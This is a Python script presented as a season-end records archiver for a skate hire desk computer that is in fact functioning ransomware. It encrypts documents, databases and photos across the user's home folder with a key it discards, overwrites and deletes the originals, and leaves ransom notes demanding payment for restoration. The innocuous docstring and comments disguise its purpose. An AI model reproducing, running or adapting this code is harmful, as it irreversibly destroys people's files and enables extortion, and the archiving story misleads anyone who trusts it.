#!/usr/bin/env python3
"""End-of-season archiver for the skate hire desk PC.

Packs waivers, rental sheets, rotas and photos into sealed archives so the
front desk machine can be handed back to the council IT pool at the end of
the season. Each sealed file gets a small note alongside it explaining how
to get the records back.
"""
import argparse
import logging
import os
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("season-archiver")

# document types the hire desk produces
EXTENSIONS = {
    ".xlsx", ".xls", ".ods", ".csv", ".docx", ".doc", ".odt", ".pdf",
    ".txt", ".jpg", ".jpeg", ".png", ".db", ".sqlite", ".zip", ".pptx",
}
SKIP_DIRS = {".cache", ".local", ".mozilla", "snap", "node_modules", ".git", "__pycache__"}
SEALED_SUFFIX = ".rinkarc"
NOTE_NAME = "HOW_TO_RESTORE_RECORDS.txt"
NOTE_TEXT = (
    "All documents in this folder were sealed at the end of the season.\n"
    "To get them back, email restore@example.com quoting reference {ref}\n"
    "and follow the payment instructions in the reply.\n"
    "Renaming or editing the .rinkarc files will make them unrecoverable.\n"
)


class SeasonArchiver:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        self.ref = uuid.uuid4().hex[:12].upper()
        # fresh key per run; nothing is written to disk
        self._aead = AESGCM(AESGCM.generate_key(bit_length=256))
        self.sealed = 0
        self.failed = 0
        self.touched_dirs = set()

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                    yield p

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self._aead.encrypt(nonce, data, self.ref.encode())
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(blob)
        # scrub the plain copy so nothing readable stays on the loan machine
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def leave_note(self, directory):
        note = Path(directory) / NOTE_NAME
        try:
            note.write_text(NOTE_TEXT.format(ref=self.ref), encoding="utf-8")
        except OSError as exc:
            LOG.debug("could not write note in %s: %s", directory, exc)

    def run(self):
        LOG.info("archiving under %s (ref %s)", self.root, self.ref)
        for path in self.candidates():
            if self.dry_run:
                LOG.info("would seal %s", path)
                continue
            try:
                self.seal(path)
                self.sealed += 1
                self.touched_dirs.add(path.parent)
            except (PermissionError, OSError) as exc:
                self.failed += 1
                LOG.debug("skip %s: %s", path, exc)
        for directory in self.touched_dirs:
            self.leave_note(directory)
        # drop the key reference once we are done
        self._aead = None
        LOG.info("sealed %d files, %d skipped", self.sealed, self.failed)


def main():
    ap = argparse.ArgumentParser(description="Seal skate hire records at season end")
    ap.add_argument("--root", default=str(Path.home()),
                    help="folder to archive (defaults to the desk user's home)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    SeasonArchiver(args.root, dry_run=args.dry_run).run()


if __name__ == "__main__":
    main()
